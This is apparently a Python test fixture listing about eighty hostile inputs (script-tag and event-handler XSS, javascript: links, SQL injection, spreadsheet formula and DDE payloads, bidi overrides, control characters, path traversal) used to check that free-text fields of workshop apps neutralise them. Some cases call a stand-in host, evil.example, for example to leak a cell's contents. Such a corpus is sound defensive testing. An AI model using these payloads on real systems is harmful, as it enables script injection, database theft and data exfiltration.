"""A corpus of hostile input: what 100 strangers might type into any free-text field of the workshops.

Each case is either refused with a clear message or stored byte-exact and shown inert; which one is
decided by the policy in :mod:`widgets.ui.text`, not here. ``tests/test_hostile.py`` sends every case through
every free-text field of every app. Cases are plain data so other tests (the browser test) can reuse them.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    id: str
    text: str
    why: str


CORPUS: tuple[Case, ...] = (
    # -- HTML that runs script, or tries to -------------------------------------------------------------
    Case("script_tag", "<script>alert(1)</script>", "the classic"),
    Case("script_src_upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "upper case, external script"),
    Case("img_onerror", "<img src=x onerror=alert(1)>", "event handler on a broken image"),
    Case("svg_onload", "<svg onload=alert(1)>", "event handler on SVG"),
    Case("svg_script", "<svg><script>alert(1)</script></svg>", "script inside SVG"),
    Case("iframe_srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "nested document"),
    Case("attr_breakout_double", '"><img src=x onerror=alert(1)>', "closes a double-quoted attribute"),
    Case("attr_breakout_single", "'><svg onload=alert(1)>", "closes a single-quoted attribute"),
    Case("details_ontoggle", "<details open ontoggle=alert(1)>", "fires without a click"),
    Case("style_tag", "<style>body{display:none}</style>", "blanks the projected page"),
    Case("comment_breakout", "--><script>alert(1)</script><!--", "escapes an HTML comment"),
    Case("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#36;x&#36;", "must show as typed, not decoded"),
    # -- links ----------------------------------------------------------------------------------------
    Case("javascript_url", "javascript:alert(1)", "a link that runs script"),
    Case("javascript_url_mixed", "JaVaScRiPt:alert(document.cookie)//", "mixed case"),
    Case("data_url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "a page in a link"),
    # -- Plotly's own markup ------------------------------------------------------------------------------
    Case("plotly_a_href", '<a href="javascript:alert(1)">clic</a>', "Plotly renders <a href>"),
    Case("plotly_bold", "<b>NEGRITA</b> <i>cursiva</i>", "Plotly renders <b> <i>"),
    Case("plotly_span_style", '<span style="font-size:300px;color:red">ENORME</span>', "covers the chart"),
    Case("plotly_sub_sup", "H<sub>2</sub>O x<sup>2</sup>", "Plotly renders <sub> <sup>"),
    Case("plotly_br", "uno<br>dos<br />tres", "Plotly renders <br>"),
    Case("plotly_hovertemplate", "%{x} %{customdata[0]} %{text}", "hover template variables"),
    # -- MathJax ----------------------------------------------------------------------------------------
    Case("mathjax_inline", "$x^2$", "inline maths"),
    Case("mathjax_display", "$$\\sum_{i=0}^{n} i$$", "display maths"),
    Case("mathjax_paren", "\\(x^2\\)", "inline maths, LaTeX delimiters"),
    Case("mathjax_bracket", "\\[x^2\\]", "display maths, LaTeX delimiters"),
    Case("mathjax_href", "$\\href{javascript:alert(1)}{clic}$", "a link inside maths"),
    Case("dollar_prices", "Cuesta $5 y no $10", "ordinary dollars must stay dollars"),
    # -- length -----------------------------------------------------------------------------------------
    Case("huge_100k", "a" * 100_000, "100 000 characters"),
    Case("huge_100k_words", "palabra " * 12_500, "100 000 characters of words"),
    Case("long_word_49", "Donaudampfschifffahrtsgesellschaftskapitänswitwe!", "a long single word"),
    Case("long_word_280", "x" * 280, "one word at the longest limit"),
    Case("exactly_40", "n" * 40, "at the limit of names"),
    Case("emoji_over_limit", "😀" * 300, "300 emoji"),
    # -- empty and whitespace ------------------------------------------------------------------------------
    Case("empty", "", "nothing"),
    Case("spaces", "     ", "only spaces"),
    Case("whitespace_mix", " \t\n \r\n ", "spaces, tabs and line breaks"),
    Case("nbsp_only", "\u00a0\u00a0\u3000", "no-break and ideographic spaces"),
    Case("zero_width_only", "\u200b\u200c\ufeff", "invisible characters only"),
    Case("padded", "  Ana  ", "leading and trailing spaces are kept"),
    # -- emoji ------------------------------------------------------------------------------------------
    Case("emoji", "😀👍🎉 ¡Genial!", "plain emoji"),
    Case("emoji_zwj_family", "👨‍👩‍👧‍👦 familia", "a ZWJ sequence"),
    Case("emoji_flags", "🇲🇽🇪🇸🇺🇸 🏴󠁧󠁢󠁳󠁣󠁴󠁿", "regional indicators and a tag sequence"),
    Case("emoji_skin_tones", "👍🏽 👋🏿 🧑🏻‍💻", "skin tone modifiers"),
    Case("emoji_keycap", "1️⃣ ❤️ #️⃣", "keycaps and variation selectors"),
    # -- right to left --------------------------------------------------------------------------------------
    Case("arabic", "خدمة العملاء ممتازة", "Arabic"),
    Case("hebrew", "שירות לקוחות מצוין", "Hebrew"),
    Case("mixed_direction", "Cliente עברית 123 عربي!", "left-to-right and right-to-left mixed"),
    Case("rtl_mark", "abc\u200fdef\u200e", "direction marks (harmless)"),
    Case("rlo_override", "\u202egnp.exe", "RIGHT-TO-LEFT OVERRIDE disguises what is shown"),
    Case("bidi_embedding", "abc\u202bdef\u202c", "RIGHT-TO-LEFT EMBEDDING"),
    Case("bidi_isolate", "\u2067abc\u2069", "RIGHT-TO-LEFT ISOLATE"),
    # -- control characters ----------------------------------------------------------------------------------
    Case("nul", "Ana\x00Luis", "NUL"),
    Case("ansi_escape", "\x1b[31mrojo\x1b[0m\x07", "terminal escape and bell"),
    Case("backspace", "admin\x08\x08\x08\x08\x08", "backspaces"),
    Case("c1_controls", "a\x85b\x9bc", "C1 controls (NEL, CSI)"),
    Case("delete", "a\x7fb", "DEL"),
    Case("vt_ff", "a\x0bb\x0cc", "vertical tab and form feed"),
    Case("lone_surrogate", "a\ud800b", "not encodable as UTF-8"),
    # -- SQL --------------------------------------------------------------------------------------------
    Case("sql_drop", "'; DROP TABLE rooms;--", "SQL injection"),
    Case("sql_or", '" OR 1=1 --', "SQL injection, double quote"),
    Case("sql_union", "x' UNION SELECT facilitator_key_hash FROM rooms--", "reads the keys"),
    # -- spreadsheet formulas -------------------------------------------------------------------------------
    Case("csv_hyperlink", '=HYPERLINK("http://evil.example/?d="&A1,"clic")', "formula that leaks a cell"),
    Case("csv_plus", "+1", "formula"),
    Case("csv_minus", "-1+1", "formula"),
    Case("csv_at", "@SUM(1)", "formula"),
    Case("csv_dde", "=cmd|' /C calc'!A0", "DDE"),
    Case("csv_tab_prefix", "\t=1+1", "tab before a formula"),
    Case("csv_cr_prefix", "\r=1+1", "carriage return before a formula"),
    Case("csv_space_prefix", "  =1+1", "spaces before a formula"),
    Case("csv_fullwidth", "＝1+1", "full-width equals sign"),
    # -- look-alikes -------------------------------------------------------------------------------------
    Case("cyrillic_lookalike", "Аdmin Рaypal", "Cyrillic А and Р"),
    Case("fullwidth", "Ａｎａ", "full-width letters"),
    Case("combining_accent", "Jose\u0301 Pen\u0303a", "decomposed accents are not normalised"),
    Case("zalgo", "Z̸̢̛̖a̵̛͔l̷̨͝g̶̣̈o̵̳͐", "stacked combining marks"),
    Case("zero_width_inside", "An\u200ba", "an invisible character inside a name"),
    # -- newlines ---------------------------------------------------------------------------------------
    Case("newline", "línea 1\nlínea 2", "two lines"),
    Case("crlf", "línea 1\r\nlínea 2", "Windows line break"),
    Case("many_lines", "1\n2\n3\n4\n5\n6", "six lines"),
    Case("line_separator", "uno\u2028dos\u2029tres", "Unicode line and paragraph separators"),
    # -- other syntax -------------------------------------------------------------------------------------
    Case("format_braces", "{name} {0} {{x}} {room!r}", "str.format placeholders"),
    Case("percent_format", "%s %d %(name)s %n", "printf placeholders"),
    Case("quotes_backslashes", "'\"\\`\\n\\\\", "quotes and backslashes"),
    Case("json_like", '{"__proto__": {"admin": true}}', "JSON"),
    Case("path_traversal", "../../etc/passwd", "a path"),
)

assert len({c.id for c in CORPUS}) == len(CORPUS), "case ids must be unique"
